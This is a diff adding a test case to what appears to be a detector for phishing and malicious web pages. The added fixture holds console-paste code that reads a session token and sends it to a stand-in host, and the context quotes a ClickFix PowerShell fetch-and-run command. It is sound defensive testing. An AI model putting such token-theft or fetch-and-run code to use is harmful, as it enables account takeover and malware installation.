@@ -1470,6 +1470,17 @@ describe('analysis: signal rules', () => {
       clean(judge('https://docs.brewkit.example/install', '<title>Install | Brewkit docs</title><h1>Install Brewkit</h1><p>Paste this into Terminal:</p><pre id="cmd">/bin/bash -c "$(curl -fsSL https://docs.brewkit.example/install.sh)"</pre><button onclick="navigator.clipboard.writeText(document.getElementById(\'cmd\').textContent)">Copy</button><p>© 2026 Brewkit</p>'));
     });
 
+    it('self-XSS: "open the console and paste this" beside code that reads the session token and sends it is the theft of the account; a guide that reads a token without sending it is not', () => {
+      const code = "webpackChunkapp.push([[Symbol()],{},r=>{for(const m of Object.values(r.c)){const t=m.exports?.default?.getToken?.();if(t){fetch('https://badge-claim.example/api',{method:'POST',body:t});break}}}])";
+      const grab = judge('https://badge-claim.example/apply', `<title>Get the Events badge</title><h1>Claim your badge</h1><p>Open the web app, press Ctrl + Shift + I and click the Console tab. Type allow pasting, then paste the code below and press Enter.</p><pre>${code}</pre>`);
+      assert.ok(ids(grab).includes('console-token-paste'), JSON.stringify(ids(grab)));
+      assert.equal(grab.verdict, 'malicious');
+      assert.deepEqual(grab.categories.slice(0, 1), ['phishing']);
+      const guide = judge('https://dev-notes.example/debug-auth', '<title>Debugging auth | Dev notes</title><h1>Check your session in the console</h1><p>Press F12, open the Console tab and paste: <code>document.cookie.split(";").length</code> to count your cookies.</p><p>© 2026 Dev notes</p>');
+      assert.ok(!ids(guide).includes('console-token-paste'), JSON.stringify(ids(guide)));
+      clean(guide);
+    });
+
     it('an IT blog explaining fake-CAPTCHA attacks (Win+R, Ctrl+V, a defanged command) is a write-up, not a ClickFix page; so is a Spanish one', () => {
       clean(judge('https://www.cert-ciudadano.example/blog/falsos-captcha', '<title>Falsos CAPTCHA que te piden pegar comandos</title><h1>Falsos CAPTCHA que te piden pegar comandos</h1><p>Una técnica en auge, conocida como "ClickFix", muestra una supuesta verificación "No soy un robot" de reCAPTCHA y pide al usuario que pulse Windows + R, Ctrl + V e Intro. Al pulsar el botón, la web ha copiado en el portapapeles un comando como este: powershell -w h -nop -c "iex (irm https://verificacion-humana.example/c.txt)". Ningún CAPTCHA legítimo te pedirá ejecutar nada en tu equipo. Si lo has hecho, desconecta el equipo de la red y llama a la línea de ayuda de ciberseguridad.</p>'));
       const steps = '<p>After ticking the box, the page tells you to press Windows + R, then Ctrl + V, then Enter. The page has copied a command into your clipboard: powershell -w hidden -c "iex(irm hxxps://example[.]invalid/s.ps1)" (defanged).</p>';
